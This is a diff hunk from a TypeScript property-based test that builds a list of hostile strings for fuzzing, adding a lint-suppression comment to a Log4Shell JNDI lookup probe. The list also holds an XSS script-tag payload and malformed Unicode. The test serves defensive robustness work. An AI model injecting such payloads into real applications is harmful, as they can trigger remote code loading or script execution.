@@ -40,6 +40,7 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
       '\uD800',
       '\uFFFF',
       '\u202Eevil',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally
       '${jndi:ldap://x/a}',
       '<script>alert(1)</script>',
       '9223372036854775808',
